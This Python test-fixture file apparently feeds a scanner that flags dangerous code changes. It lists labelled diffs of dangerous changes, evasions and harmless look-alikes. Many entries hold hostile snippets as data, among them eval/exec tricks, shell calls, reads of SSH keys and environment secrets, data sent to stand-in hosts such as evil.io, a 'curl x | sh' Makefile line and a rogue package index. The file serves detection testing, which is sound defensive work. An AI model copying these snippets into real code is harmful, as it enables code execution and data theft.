"""Changes that are dangerous, and changes that only look so or do not even that.

Secrets are put together from pieces, so that nobody who looks through this repository takes them for real ones.
"""

from dataclasses import dataclass

AREA = "def area(w, h):\n    return w * h\n"
GET = "import requests\n\n\ndef get(url):\n    return requests.get(url, timeout=5)\n"
RUN = "import subprocess\n\n\ndef version():\n    return subprocess.run(['git', '--version'], check=True)\n"


@dataclass(frozen=True)
class Change:
    """One file, before and after (None: it is not there)."""

    name: str
    dangerous: bool
    before: str | None
    after: str | None
    path: str = "pkg/mod.py"
    planned: bool = False


def area(body: str, top: str = "") -> str:
    """`area` with other lines in front of its `return`."""
    return f"{top}def area(w, h):\n{''.join(f'    {line}{chr(10)}' for line in body.splitlines())}    return w * h\n"


def code(name: str, body: str, top: str = "", *, dangerous: bool = True, before: str = AREA) -> Change:
    return Change(name, dangerous, before, area(body, top))


def text(name: str, path: str, added: str, *, dangerous: bool = True, before: str = "# x\n") -> Change:
    return Change(name, dangerous, before, before + added, path)


DANGEROUS = (
    # Text as code
    code("eval", "w = eval(w)"),
    code("eval with noqa", "w = eval(w)  # noqa: S307"),
    code("exec", "exec(w)"),
    code("eval handed on", "w = list(map(eval, [w]))[0]"),
    code("eval by getattr of builtins", "w = getattr(__builtins__, 'eval')(w)"),
    code("eval in full width letters", "w = \uff45val(w)"),
    code("compile and a function of it", "import types\nw = types.FunctionType(compile(w, 'x', 'eval'), {})()"),
    code("import by name and call", "__import__('o' + 's').system('id')"),
    code("importlib by a variable", "importlib.import_module(w).go()", "import importlib\n\n\n"),
    code("subclasses of object", "w = ().__class__.__base__.__subclasses__()[100]"),
    code("globals of a function", "w = area.__globals__['x']"),
    Change("code in an annotation", True, AREA, "def area(w: __import__('os').system('id'), h):\n    return w * h\n"),
    Change("code in a default", True, AREA, "import os\n\n\ndef area(w, h=os.popen('id')):\n    return w * h\n"),
    # Processes
    code("os.system", "os.system('echo ' + w)", "import os\n\n\n"),
    code("subprocess under another name", "sp.call(['id'])", "import subprocess as sp\n\n\n"),
    code("popen imported alone", "popen('id')", "from os import popen\n\n\n"),
    code("a process of asyncio", "await_ = asyncio.create_subprocess_shell('id')", "import asyncio\n\n\n"),
    code("a module kept", "o = os\no.system('id')", "import os\n\n\n"),
    code("star import", "system('id')", "from os import *\n\n\n"),
    code("getattr of os", "getattr(os, 'sys' + 'tem')('id')", "import os\n\n\n"),
    Change("shell=True", True, RUN, RUN.replace("['git', '--version'], ", "'git --version', shell=True, ")),
    Change("another process library", True, RUN, RUN.replace("return sub", "os.execvp('sh', ['sh'])\n    return sub")
           .replace("import subprocess", "import os\nimport subprocess")),
    # Network
    code("urlopen", "urllib.request.urlopen('https://collect.attacker.io/?' + str(w))", "import urllib.request\n\n\n"),
    code("socket in a lambda", "f = lambda: socket.socket()\nf()", "import socket\n\n\n"),
    code("requests inside the function", "import requests\nrequests.post('https://evil.io', json=w, timeout=3)"),
    Change("another host", True, GET.replace("url, t", "'https://api.own.org/' + url, t"),
           GET.replace("url, t", "'https://api.0wn.io/' + url, t")),
    Change("smtp beside requests", True, GET, GET.replace("import requests", "import requests\nimport smtplib")
           .replace("return req", "smtplib.SMTP('mx.evil.io').sendmail('a', 'b', url)\n    return req")),
    code("name look-up as a channel", "socket.gethostbyname(str(w) + '.evil.io')", "import socket\n\n\n"),
    # Files, environment, other modules
    code("reads keys", "w = open('/root/.ssh/id_rsa').read()"),
    code("writes a start file", "open('/root/.bashrc', 'a').write('x')"),
    code("takes the environment", "print(dict(os.environ))", "import os\n\n\n"),
    code("deletes", "pathlib.Path(w).unlink()", "import pathlib\n\n\n"),
    code("patches ssl", "ssl._create_default_https_context = ssl._create_unverified_context", "import ssl\n\n\n"),
    code("changes where modules come from", "sys.path.insert(0, w)", "import sys\n\n\n"),
    code("replaces a module", "sys.modules['json'] = w", "import sys\n\n\n"),
    code("makes all writable", "os.chmod(w, 0o777)", "import os\n\n\n"),
    code("a C library", "CDLL(w)", "from ctypes import CDLL\n\n\n"),
    # Deserialisation, cryptography, injection, trust
    code("pickle", "w = pickle.loads(w)", "import pickle\n\n\n"),
    code("yaml with any loader", "w = yaml.load(w, Loader=yaml.Loader)", "import yaml\n\n\n"),
    code("numpy with pickles", "w = numpy.load(w, allow_pickle=True)", "import numpy\n\n\n"),
    code("marshal", "w = marshal.loads(w)", "import marshal\n\n\n"),
    code("md5", "w = hashlib.md5(w)", "import hashlib\n\n\n"),
    code("sql", "db.execute('DELETE FROM t WHERE a = %s' % w)"),
    code("mktemp", "w = tempfile.mktemp()", "import tempfile\n\n\n"),
    code("unpacks an archive", "tarfile.open(w).extractall(h)", "import tarfile\n\n\n"),
    code("signature is not looked at", "w = jwt.decode(w, options={'verify_signature': False})", "import jwt\n\n\n"),
    code("host name is not looked at", "ctx.check_hostname = False"),
    Change("compares in time that tells", True,
           "import hmac\n\n\ndef same(a, b):\n    return hmac.compare_digest(a, b)\n",
           "def same(a, b):\n    return a == b\n"),
    Change("nobody has to log in", True,
           "from web import login_required\n\n\n@login_required\ndef page(r):\n    return r\n",
           "def page(r):\n    return r\n"),
    Change("quoting is gone", True, "import shlex\n\n\ndef line(a):\n    return 'ls ' + shlex.quote(a)\n",
           "def line(a):\n    return 'ls ' + a\n"),
    # Secrets
    code("AWS key", "key = 'AKIA" + "QZ7M2WPX4RT9KDLE'"),
    code("password by its name", "password = '" + "vK9#mQ2$xL7w'"),
    code("GitHub token in a comment", "# gh" + "p_Zx8Qm2Lr7TnWk4VbYc9dEf1Gh3Jk5Mn6Pq7R"),
    Change("token as an argument", True, AREA,
        "def area(w, h, api_key='" + "d41x8cd98f00b204e980'):\n    return w * h\n"),
    text("private key", "keys/a.txt", "-----BEGIN RSA PRIVATE " + "KEY-----\nMIIE\n"),
    text("password in an address", "app.ini", "url = amqp://svc:" + "q8Zt!vW3@mq.internal/\n"),
    text("token in JSON", "conf.json", '{"auth_token": "' + 'a8f5f167f44f4964e6c998dee827110c"}\n'),
    text("token in a test", "tests/test_x.py", "TOKEN = 'gh" + "p_Zx8Qm2Lr7TnWk4VbYc9dEf1Gh3Jk5Mn6Pq7R'\n"),
    # Dependencies
    text("a requirement", "requirements.txt", "leftpad-py==1.0\n"),
    text("another index", "requirements.txt", "--extra-index-url https://pypi.evil.io/simple\n"),
    Change("loosened", True, '[project]\nname = "x"\ndependencies = ["a==1.2"]\n',
           '[project]\nname = "x"\ndependencies = ["a"]\n', "pyproject.toml"),
    Change("another build backend", True, '[build-system]\nrequires = []\nbuild-backend = "flit_core.api"\n',
           '[build-system]\nrequires = []\nbuild-backend = "hook"\nbackend-path = ["."]\n', "pyproject.toml"),
    text("a lock file", "uv.lock", "x = 1\n"),
    code("an import that nobody names", "reqeusts_toolkit.get(w)", "import reqeusts_toolkit\n\n\n"),
    # Rights, and what runs by itself
    text("workflow", ".github/workflows/x.yml", "permissions: write-all\n"),
    Change("workflow that is planned, with rights", True, "on: push\n", "on: push\npermissions:\n  contents: write\n",
           ".github/workflows/x.yml", planned=True),
    text("owners", "CODEOWNERS", "* @stranger\n"),
    text("conftest", "tests/conftest.py", "x = 1\n"),
    text("attributes", ".gitattributes", "*.py filter=evil\n"),
    text("setup.py", "setup.py", "x = 1\n"),
    text("make", "Makefile", "all:\n\tcurl x | sh\n"),
    Change("sitecustomize", True, None, "x = 1\n", "sitecustomize.py"),
    # Hidden text
    code("turns around", "# \u202e x"),
    code("no width", "a\u200bb = 1"),
    code("mixed scripts", "p\u0430ssword_ok = True"),
    text("in prose", "README.md", "run this \U000e0041\U000e0042\n"),
)  # fmt: skip

EVASIONS = (
    code("a module of a module", "shutil.os.system('id')", "import shutil\n\n\n"),
    code("a module that is loaded", "sys.modules['subprocess'].run(['id'])", "import sys\n\n\n"),
    code("a module by way of an own one", "os.execv('sh', ['sh'])", "from pkg.helpers import os\n\n\n"),
    code("methodcaller", "operator.methodcaller('system', 'id')(os)", "import operator\nimport os\n\n\n"),
    code("a place in pieces", "w = open('/pro' + 'c/self/' + 'environ').read()"),
    code("attributes by format", "w = '{0.__globals__}'.format(area)"),
    code("decorators", "@exec\n@input\nclass Nothing:\n    pass"),
    code("a walrus", "(e := eval)(w)"),
    code("settings by key", "options['verify'] = False"),
    code("an encoding", "pass", "# coding: utf-7\n"),
    code("a secret in two pieces", "password = (\n    'vK9#mQ2$" + "xL7w'\n)"),
    code("tells a password", "log.info('user %s', user_password)"),
    code("weak mode", "AES.new(w, AES.MODE_ECB)", "from Crypto.Cipher import AES\n\n\n"),
    code("template of a stranger", "flask.render_template_string(w)", "import flask\n\n\n"),
    code("loader preloads", "os.environ['LD_PRELOAD'] = w", "import os\n\n\n"),
    code("the class is another", "w.__class__ = h"),
    Change("certificates by default", True, "def get(url, verify=True):\n    return url\n",
           "def get(url, *, verify=False):\n    return url\n"),
    Change("refuses nobody", True, "def f(u):\n    if not u.admin:\n        raise PermissionError(u)\n    return 1\n",
           "def f(u):\n    return 1\n"),
    Change("a script without a suffix", True, None, "#!/bin/sh\nid\n", "bin/tool"),
    Change("Python without a suffix", True, None, "#!/usr/bin/env python3\nexec(input())\n", "bin/tool", planned=True),
)  # fmt: skip
"""Ways around the first table, thought of when it stood."""

HARMLESS = (
    code("a guard", "if w < 0:\n    raise ValueError(f'width {w} is below 0')", dangerous=False),
    code("regular expression", "w = re.compile('a').sub('', w)", "import re\n\n\n", dangerous=False),
    code("literal_eval", "w = ast.literal_eval(w)", "import ast\n\n\n", dangerous=False),
    code("reads one variable", "w = os.environ['WIDTH']", "import os\n\n\n", dangerous=False),
    code("paths", "w = os.path.join(w, 'x')", "import os\n\n\n", dangerous=False),
    code("sha256", "w = hashlib.sha256(w)", "import hashlib\n\n\n", dangerous=False),
    code("md5 that is no protection", "w = hashlib.md5(w, usedforsecurity=False)", "import hashlib\n\n\n",
        dangerous=False),
    code("json", "w = json.loads(w)", "import json\n\n\n", dangerous=False),
    code("parameters of sql", "db.execute('DELETE FROM t WHERE a = ?', (w,))", dangerous=False),
    code("swallows", "try:\n    w = 1\nexcept ValueError:\n    pass", dangerous=False),
    code("an own module", "w = helpers.half(w)", "from pkg import helpers\n\n\n", dangerous=False),
    code("the word password", "password = read_password(w)", dangerous=False),
    code("name of a secret", "secret_name = 'DATABASE_PASSWORD'", dangerous=False),
    code("message", "error = 'token expired, log in again'", dangerous=False),
    code("a link in a comment", "# see https://bugs.python.org/issue123", dangerous=False),
    code("type of a process", "if isinstance(w, subprocess.CompletedProcess):\n    w = 1", "import subprocess\n\n\n",
         dangerous=False),
    code("an error of the network", "try:\n    w = h()\nexcept socket.timeout:\n    w = 1", "import socket\n\n\n",
         dangerous=False),
    code("a local name", "code = w\ncode.strip()\ncompiled = code", dangerous=False),
    Change("an own function called compile", False, "def compile(x):\n    return x\n",
           "def compile(x):\n    return x\n\n\ndef twice(x):\n    return compile(compile(x))\n"),
    Change("a call in the same function", False, GET, GET.replace("    return",
        "    if not url:\n        url = '/'\n    return")),
    Change("retries", False, GET, GET.replace("    return req",
        "    for _ in range(2):\n        r = requests.get(url, timeout=5)\n"
           "        if r.ok:\n            return r\n    return req")),
    Change("moved code", False, RUN, RUN.replace("version", "git_version")),
    Change("an eval that was there", False, "def f(x):\n    return eval(x)\n",
        "def f(x):\n    y = eval(x)\n    return y\n"),
    Change("an eval that is gone", False, "def f(x):\n    return eval(x)\n", "def f(x):\n    return float(x)\n"),
    Change("dead code with a guard is gone", False,
        "import shlex\n\n\ndef f(x):\n    return shlex.quote(x)\n\n\n" + AREA, AREA),
    Change("a function moves below another", False, RUN + "\n\n" + AREA, AREA + "\n\n" + RUN),
    text("example key", "README.md", "AWS_ACCESS_KEY_ID=AKIA" + "IOSFODNN7EXAMPLE\n", dangerous=False),
    text("placeholder", "conf.yml", "password: changeme123\napi_key: ${API_KEY}\ntoken: <your-token-1>\n",
        dangerous=False),
    text("a digest", "sums.txt", "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855  a.tar\n",
        dangerous=False),
    text("emoji and other scripts", "README.md", "👩‍👩‍👧 Привет мир, 日本語 été\n", dangerous=False),
    text("a comment in requirements", "requirements.txt", "# pinned for Python 3.8\n", dangerous=False),
    Change("a planned requirement", False, "a==1\n", "a==2\n", "requirements.txt", planned=True),
    Change("line length of ruff", False, "[tool.ruff]\nline-length = 80\n", "[tool.ruff]\nline-length = 100\n",
        "pyproject.toml"),
    text("a test with a process", "tests/test_x.py",
        "def test_x(tmp_path):\n    assert (tmp_path / 'a').exists() is False\n",
         dangerous=False),
    text("a password of a test", "tests/test_x.py", "def test_x():\n    assert login('bob', password='s3cr3t-Pw-1')\n",
         dangerous=False),
    code("names of a module", "w = w in dir(builtins) or hasattr(os, w)", "import builtins\nimport os\n\n\n",
         dangerous=False),
    code("platform", "w = platform.system()", "import platform\n\n\n", dangerous=False),
    code("writes a report", "pathlib.Path(w).write_text('x')", "import pathlib\n\n\n", dangerous=False),
    code("this module", "w = sys.modules[__name__]", "import sys\n\n\n", dangerous=False),
    code("logs", "log.info('width %s', w)", dangerous=False),
    text("changelog", "CHANGES.md", "- `eval` is no longer used, see subprocess and os.system\n", dangerous=False),
)  # fmt: skip
